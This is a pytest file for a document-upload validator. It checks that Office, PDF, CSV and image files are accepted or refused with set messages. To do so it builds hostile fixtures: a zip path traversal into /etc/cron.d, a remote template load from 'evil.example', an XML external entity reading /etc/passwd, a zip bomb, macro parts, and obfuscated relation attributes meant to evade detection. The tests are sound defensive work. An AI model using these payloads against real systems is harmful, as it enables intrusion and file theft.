"""What may come in, and what is told about what may not."""

import io
import re
import time
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from core.files import checks, kinds
from core.files.checks import accept
from core.files.kinds import Refused
from tests.core.files import makers
from tests.proving import PROVING

SOUND = {
    "a.docx": makers.a_word_document(),
    "a.xlsx": makers.a_workbook(),
    "a.csv": b"a,b\n1,2\n",
    "a.pdf": makers.a_pdf(),
    "turned.pdf": makers.a_pdf(opens="GoTo"),
    "linked.pdf": makers.a_pdf(link=("URI", "https://a.example/")),
    "a.png": makers.a_picture(),
    "a.JPG": makers.a_picture("JPEG"),
    "a.jpeg": makers.a_picture("JPEG"),
}
RELATION = (
    b'<Relationships xmlns="x"><Relationship Id="r1" Target="http://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'TargetMode="External"/></Relationships>'
)


def slippery() -> bytes:
    return makers.with_parts(SOUND["a.docx"], {"../../etc/cron.d/x": b"x"})


def doubled() -> bytes:
    made = io.BytesIO(SOUND["a.docx"])
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", b"<other/>")
    return made.getvalue()


def crowded() -> bytes:
    return makers.with_parts(SOUND["a.docx"], {f"word/p{n}.xml": b"<a/>" for n in range(2_001)})


def bomb() -> bytes:
    return makers.with_parts(SOUND["a.docx"], {"word/media/big.xml": b" " * (30 * 1024 * 1024)})


def macro() -> bytes:
    return makers.with_parts(SOUND["a.docx"], {"word/vbaProject.bin": b"x"})


def embedded() -> bytes:
    return makers.with_parts(SOUND["a.docx"], {"word/embeddings/oleObject1.bin": b"x"})


def template() -> bytes:
    relation = RELATION % b"attachedTemplate"
    return makers.with_parts(SOUND["a.docx"], {"word/_rels/settings.xml.rels": relation})


def entity() -> bytes:
    text = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return makers.with_parts(SOUND["a.xlsx"], {"xl/workbook.xml": text})


def entity_in_utf_16() -> bytes:
    text = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x []><x/>'.encode("utf-16")
    return makers.with_parts(SOUND["a.xlsx"], {"xl/workbook.xml": text})


def with_part(name: str, text: str | bytes) -> bytes:
    data = text if isinstance(text, bytes) else text.encode()
    return makers.with_parts(SOUND["a.docx"], {name: data})


def related(relation: str, encoding: str = "utf-8") -> bytes:
    """A document with a relation of its own, as `word/settings.xml` would have."""
    text = f'<Relationships xmlns="x"><Relationship Id="r1" {relation}/></Relationships>'
    return with_part("word/_rels/settings.xml.rels", text.encode(encoding))


#: A relation that loads a template, and ways to write one that a search for words misses.
LOADS = 'Type="http://x/attachedTemplate"'
HIDDEN = {
    "a sign by its number": f'{LOADS} Target="http://e.example" TargetMode="&#69;xternal"',
    "a bracket in the address": f'{LOADS} Target="http://e.example?a>b" TargetMode="External"',
    "a link beside": f'{LOADS} Note="a/hyperlink" Target="http://e.example" TargetMode="External"',
    "a type in another word": f'{LOADS} Note="Type=&quot;" Rype="/hyperlink" TargetMode="External"',
    "a second type": f'{LOADS} TargetMode="External" xmlns:z="z" z:Type="/hyperlink"',
    "a second type in small letters": f'{LOADS} TargetMode="External" type="/hyperlink"',
    "a second mode": f'{LOADS} TargetMode="External" xmlns:z="z" z:TargetMode="Internal"',
    "spaces": f'{LOADS} Target="http://e.example" TargetMode=" External "',
}


@pytest.mark.parametrize("relation", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_writing_hides_that_something_is_loaded(relation: str, encoding: str) -> None:
    with pytest.raises(Refused, match="loads something from elsewhere when it is opened"):
        accept("a.docx", related(relation, encoding))


UTF_7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AFs-'


@pytest.mark.parametrize("name", ["word/a.xml", "word/a.vml", "word/_rels/a.xml.rels"])
@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        (UTF_7, "“a.docx” holds text that Word or Excel did not write."),
        (b'<?xml version="1.0" encoding="latin-1"?><a/>', "holds text that Word or Excel did not"),
        (b"<a><b></a><!DOCTYPE a []>", "“a.docx” "),
        ("<!DOCTYPE a []><a/>".encode("utf-16"), "“a.docx” holds declarations"),
        ("<!DOCTYPE a []><a/>".encode("utf-16-le"), "“a.docx” holds declarations"),
    ],
)
def test_a_part_that_no_program_of_its_kind_writes_is_refused(
    name: str, text: bytes, sentence: str
) -> None:
    with pytest.raises(Refused, match=re.escape(sentence)):
        accept("a.docx", with_part(name, text))


def test_a_part_that_is_no_xml_is_damage_but_for_the_drawings_of_excel() -> None:
    for name in ("word/a.xml", "word/_rels/a.xml.rels"):
        with pytest.raises(Refused, match=r"“a\.docx” is damaged and cannot be read"):
            accept("a.docx", with_part(name, "<a><br></a>"))
    assert accept("a.docx", with_part("word/a.vml", "<a><br></a>")).name == "a.docx"


def huge_picture() -> bytes:
    made = io.BytesIO()
    Image.new("1", (9_000, 9_000)).save(made, "PNG")
    return made.getvalue()


@pytest.mark.parametrize("name", SOUND)
def test_sound_files_come_in(name: str) -> None:
    found = accept(name, SOUND[name])
    assert found.kind.ending == {"jpeg": "jpg"}.get(ending := name.split(".")[1].lower(), ending)
    assert found.data == SOUND[name] or found.kind.ending in {"png", "jpg"}


@pytest.mark.parametrize(
    ("name", "data", "sentence"),
    [
        ("a.exe", b"MZ", "“a.exe” is not a file that can be added. Choose a Word document"),
        ("noending", b"x", "“noending” is not a file that can be added."),
        ("a.svg", b"<svg/>", "“a.svg” is not a file that can be added."),
        ("a.docm", SOUND["a.docx"], "“a.docm” is not a file that can be added."),
        ("a.csv", b"", "“a.csv” is empty."),
        ("a.csv", b"a" * (25 * 1024 * 1024 + 1), "“a.csv” is 26 MB. The most that a file"),
        ("a.pdf", b"hello there", "“a.pdf” ends in .pdf but is not a PDF."),
        ("a.png", SOUND["a.pdf"], "“a.png” ends in .png but is not a PNG picture."),
        ("a.docx", SOUND["a.xlsx"], "“a.docx” ends in .docx but is not a Word document."),
        ("a.csv", SOUND["a.pdf"], "“a.csv” ends in .csv but is not a CSV table."),
        ("a.csv", b"a,b\n" * 99_999 + b"\x00", "“a.csv” is not a CSV table"),
        ("a.docx", slippery(), "“a.docx” is not what its name says."),
        ("a.docx", doubled(), "“a.docx” is not what its name says."),
        ("a.docx", crowded(), "parts inside. The most is 2,000."),
        ("a.docx", bomb(), "“a.docx” unpacks to far more than a document holds."),
        ("a.docx", macro(), "“a.docx” holds a macro, a control or another file."),
        ("a.docx", embedded(), "“a.docx” holds a macro, a control or another file."),
        ("a.docx", template(), "“a.docx” loads something from elsewhere when it is opened"),
        ("a.xlsx", entity(), "“a.xlsx” holds declarations that no document needs."),
        ("a.xlsx", entity_in_utf_16(), "“a.xlsx” holds declarations that no document needs."),
        ("a.docx", SOUND["a.docx"][:2_000], "“a.docx” is damaged and cannot be read."),
        ("a.pdf", makers.a_pdf(script="app.alert(1)"), "“a.pdf” holds a script"),
        ("a.pdf", makers.a_pdf(attached=b"MZ"), "“a.pdf” holds a script"),
        ("a.pdf", makers.a_pdf(link=("SubmitForm", "http://e.example")), "a link that opens or"),
        ("a.pdf", makers.a_pdf(link=("GoToR", r"\\e\share")), "a link that opens or sends one."),
        ("a.pdf", makers.a_pdf(opens="URI"), "“a.pdf” opens something by itself."),
        ("a.pdf", makers.a_pdf(password="x"), "“a.pdf” is locked with a password."),
        ("a.pdf", b"%PDF-1.7\nnothing more", "“a.pdf” is damaged and cannot be read."),
        ("a.png", SOUND["a.png"][:60], "“a.png” is damaged and cannot be shown."),
        ("a.png", huge_picture(), "“a.png” is 9000 by 9000 points: too large."),
    ],
)
def test_what_is_refused_and_how_it_is_said(name: str, data: bytes, sentence: str) -> None:
    with pytest.raises(Refused, match=re.escape(sentence)):
        accept(name, data)


def test_a_link_to_click_on_is_no_relation_that_opens_by_itself() -> None:
    relation = RELATION % b"hyperlink"
    parts = {"word/_rels/settings.xml.rels": relation}
    assert accept("a.docx", makers.with_parts(SOUND["a.docx"], parts)).name == "a.docx"


def test_a_picture_leaves_behind_what_it_carries() -> None:
    exif = Image.Exif()
    exif[0x010E] = "Where the child lives"
    data = makers.a_picture("JPEG", exif=exif, comment=b"Who took it") + b"<script>x</script>"
    assert b"Where the child lives" in data
    drawn = accept("a.jpg", data).data
    assert [word for word in (b"Where", b"Who took", b"<script>") if word in drawn] == []
    assert Image.open(io.BytesIO(drawn)).size == (40, 20)


def test_a_picture_stands_upright_afterwards() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    drawn = accept("a.jpg", makers.a_picture("JPEG", exif=exif)).data
    assert Image.open(io.BytesIO(drawn)).size == (20, 40)


def test_a_name_is_shown_without_its_folder_and_not_at_any_length() -> None:
    with pytest.raises(Refused, match=r"“b\.exe” is not"):
        accept("C:\\Users\\me\\b.exe", b"x")
    with pytest.raises(Refused, match=rf"“{'a' * 60}…{'a' * 11}\.exe” is not"):
        accept("a" * 300 + ".exe", b"x")


@settings(
    max_examples=2_000 if PROVING else 60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.sampled_from(sorted(SOUND)), st.data())
def test_damaged_files_are_let_in_or_refused_and_never_an_error(
    name: str, data: st.DataObject
) -> None:
    damaged = bytearray(SOUND[name])
    for _ in range(data.draw(st.integers(1, 12))):
        damaged[data.draw(st.integers(0, len(damaged) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(damaged)))
    started, told = time.monotonic(), f"“{name}” "
    try:
        accept(name, bytes(damaged[:cut]))
    except Refused as refusal:
        told = str(refusal)
    assert told.startswith(f"“{name}” ")
    assert time.monotonic() - started < 2


def test_every_kind_has_a_check() -> None:
    assert {kind.ending for kind in kinds.KINDS} == set(checks._CHECKS)
